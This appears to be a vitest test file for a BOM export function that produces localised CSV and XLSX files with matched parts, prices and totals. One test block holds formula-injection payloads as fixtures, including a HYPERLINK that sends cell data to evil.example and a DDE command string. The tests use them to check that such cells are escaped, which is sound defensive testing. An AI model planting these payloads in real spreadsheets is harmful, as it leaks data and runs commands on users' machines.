import { parse } from 'csv-parse/sync';
import { unzipSync, strFromU8 } from 'fflate';
import readXlsxFile from 'read-excel-file/node';
import { describe, expect, it } from 'vitest';
import { bomExport, type BomExportInput, type BomExportLine } from './bom-export.ts';

const HEADER = ['Part Number', 'Manufacturer', 'Qty', 'RefDes', 'Note'];
const MAPPING = { part_number_column: 0, manufacturer_column: 1, quantity_column: 2, reference_designators_column: 3 };

function source(part: string, quantity: number, changes: Partial<BomExportLine['source']> = {}): BomExportLine['source'] {
  return { row_number: 2, part_number: part, manufacturer: '', quantity, value: '', description: '', package: '', reference_designators: '', designator_count: 0, dnp: false, target_price: null, ...changes };
}

/** A matched line with an offer in stock, priced unless changed. */
function line(part: string, cells: string[] | null, changes: Partial<BomExportLine> = {}): BomExportLine {
  return {
    source: source(part, 1),
    match_state: 1,
    match_mode: 1,
    match_kind: 'exact',
    doubts: [],
    needs_confirmation: false,
    goods: { part_number: part, brand_name: 'Texas Instruments' },
    sku: { supplier_name: 'Shenzhen Hengxin Electronics', stock: 12500, lead_time_days: 3 },
    order_qty: 50,
    unit_price: 0.078,
    subtotal_price: 3.9,
    cells,
    ...changes,
  };
}

const input = (lines: BomExportLine[], changes: Partial<BomExportInput> = {}): BomExportInput => ({ locale: 'en', currencyCode: 'USD', header: HEADER, mapping: MAPPING, lines, ...changes });

const csvRows = (bytes: Uint8Array) => parse(new TextDecoder().decode(bytes), { bom: true, relax_column_count: true }) as string[][];
const xlsxRows = async (bytes: Uint8Array) => ((await readXlsxFile(Buffer.from(bytes))) as unknown as Array<{ data: unknown[][] }>)[0]!.data;

describe('exporting a BOM with its matches', () => {
  const lines = [
    line('LM358DR', ['LM358DR', 'TI', '2', 'U4, U5', '']),
    line('TPS54331DR', ['TPS54331DR', 'TI', '1', 'U2', 'DNP on rev B'], { source: source('TPS54331DR', 1, { dnp: true }), order_qty: 0, subtotal_price: 0 }),
    line('1.5SMC6.8CA', ['1.5SMC6.8CA', 'Littelfuse', '1', 'D1', ''], { match_mode: 0 }),
    line('GRM155R71C104KA88', ['GRM155R71C104KA88', 'Murata', '12', 'C1-C12', ''], {
      match_state: 2,
      match_kind: 'packaging',
      doubts: ['packaging_variant_only', 'quantity_disagrees_with_designators'],
      needs_confirmation: true,
      goods: { part_number: 'GRM155R71C104KA88D', brand_name: 'Murata' },
      subtotal_price: 2.4,
    }),
    line('DF40C-30DS-0.4V(51)', ['DF40C-30DS-0.4V(51)', 'Hirose', '2', 'J3, J4', ''], { match_state: 0, match_kind: 'none', goods: null, sku: null, order_qty: 0, unit_price: null, subtotal_price: null }),
    line('ESP32-WROOM-32E', null, { source: source('ESP32-WROOM-32E', 1, { row_number: null, manufacturer: 'Espressif', reference_designators: 'U9' }), match_mode: 2, unit_price: 2.35, subtotal_price: 117.5 }),
  ];

  it('puts each uploaded row next to its match, prices only the lines that are ordered, and totals them', async () => {
    const rows = csvRows(await bomExport(input(lines), 'csv'));
    expect(rows[0]).toEqual([...HEADER, 'Match', 'Reason', 'Part', 'Manufacturer', 'Supplier', 'Order qty', 'Unit price (USD)', 'Subtotal (USD)', 'Stock', 'Lead time (days)']);
    expect(rows.slice(1).map((row) => [row[0], ...row.slice(5, 13)])).toEqual([
      ['LM358DR', 'Exact match', '', 'LM358DR', 'Texas Instruments', 'Shenzhen Hengxin Electronics', '50', '0.078', '3.90'],
      ['TPS54331DR', 'Do not place', '', 'TPS54331DR', 'Texas Instruments', 'Shenzhen Hengxin Electronics', '', '', ''],
      ['1.5SMC6.8CA', 'Ignored', '', '1.5SMC6.8CA', 'Texas Instruments', 'Shenzhen Hengxin Electronics', '', '', ''],
      [
        'GRM155R71C104KA88',
        'To confirm',
        'Only the same part in another packaging was found; The quantity is not the number of reference designators',
        'GRM155R71C104KA88D',
        'Murata',
        'Shenzhen Hengxin Electronics',
        '',
        '',
        '',
      ],
      ['DF40C-30DS-0.4V(51)', 'Unmatched', '', '', '', '', '', '', ''],
      ['ESP32-WROOM-32E', 'Chosen by you', '', 'ESP32-WROOM-32E', 'Texas Instruments', 'Shenzhen Hengxin Electronics', '50', '2.35', '117.50'],
      ['', '', '', '', '', '', '', 'Total', '121.40'],
    ]);
    // A line added by hand: its fields under the columns the upload mapped.
    expect(rows[6]!.slice(0, 5)).toEqual(['ESP32-WROOM-32E', 'Espressif', '1', 'U9', '']);
    expect(rows[1]!.slice(13)).toEqual(['12500', '3']);
  });

  it('writes the same in xlsx, in the request language, with numbers as numbers', async () => {
    const rows = await xlsxRows(await bomExport(input(lines, { locale: 'zh', currencyCode: 'CNY' }), 'xlsx'));
    expect(rows[0]!.slice(5)).toEqual(['匹配', '原因', '匹配型号', '匹配品牌', '供应商', '订购数量', '单价（CNY）', '小计（CNY）', '库存', '交期（天）']);
    expect(rows[1]!.slice(5)).toEqual(['精确匹配', null, 'LM358DR', 'Texas Instruments', 'Shenzhen Hengxin Electronics', 50, 0.078, 3.9, 12500, 3]);
    expect(rows[4]![6]).toBe('仅找到其他包装的同一型号; 数量与位号个数不一致');
    expect(rows[7]!.slice(11, 13)).toEqual(['合计', 121.4]);
  });

  it('uses the template titles for a BOM that was not uploaded', async () => {
    const rows = csvRows(await bomExport(input([lines[5]!], { header: [], mapping: { part_number_column: 0 }, locale: 'de' }), 'csv'));
    expect(rows[0]!.slice(0, 9)).toEqual(['Teilenummer', 'Hersteller', 'Menge', 'Wert', 'Beschreibung', 'Gehäuse', 'Bestückungsposition', 'Nicht bestücken', 'Zielpreis']);
    expect(rows[1]!.slice(0, 9)).toEqual(['ESP32-WROOM-32E', 'Espressif', '1', '', '', '', 'U9', '', '']);
  });

  describe('cells that a spreadsheet would run as formulas', () => {
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Datasheet")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
    const exported = () =>
      bomExport(
        input([line('LM358DR', ['LM358DR', hostile[0]!, hostile[1]!, hostile[2]!, hostile[3]!]), line('TPS54331DR', ['TPS54331DR', hostile[4]!, hostile[5]!, '', ''], { sku: { supplier_name: '=1+2', stock: 10, lead_time_days: 1 } })], {
          header: ['Part Number', '=cmd()', 'Qty', 'RefDes', 'Note'],
        }),
        'xlsx',
      );

    it('are written to xlsx as text behind an apostrophe, never as formulas', async () => {
      const bytes = await exported();
      const rows = await xlsxRows(bytes);
      expect(rows[0]![1]).toBe("'=cmd()");
      expect(rows[1]!.slice(1, 5)).toEqual(hostile.slice(0, 4).map((text) => `'${text}`));
      expect(rows[2]!.slice(1, 3)).toEqual(hostile.slice(4, 6).map((text) => `'${text}`));
      expect(rows[2]![9]).toBe("'=1+2");
      const sheetXml = strFromU8(unzipSync(bytes)['xl/worksheets/sheet1.xml']!);
      expect(sheetXml).not.toMatch(/<f[\s>]/);
    });

    it('are written to csv behind an apostrophe too', async () => {
      const rows = csvRows(await bomExport(input([line('LM358DR', ['LM358DR', hostile[0]!, hostile[1]!, hostile[2]!, hostile[3]!])]), 'csv'));
      expect(rows[1]!.slice(1, 5)).toEqual(hostile.slice(0, 4).map((text) => `'${text}`));
    });
  });

  it('writes a cell reading "constructor" without damaging the workbook', async () => {
    const rows = await xlsxRows(await bomExport(input([line('LM358DR', ['LM358DR', 'constructor', '2', 'toString', 'plain'])]), 'xlsx'));
    expect(rows[1]!.slice(0, 5)).toEqual(['LM358DR', "'constructor", '2', "'toString", 'plain']);
  });

  it('writes a 5,000-line BOM in both formats in one pass over its lines', async () => {
    const many = Array.from({ length: 5000 }, (_unused, index) => line(`PN-${index}`, [`PN-${index}`, 'Murata', '1', `C${index + 1}`, `note ${index}`]));
    const csv = csvRows(await bomExport(input(many), 'csv'));
    expect(csv).toHaveLength(5002);
    expect(csv[5001]!.slice(11, 13)).toEqual(['Total', '19500.00']);
    const xlsx = await xlsxRows(await bomExport(input(many), 'xlsx'));
    expect(xlsx).toHaveLength(5002);
  });
});
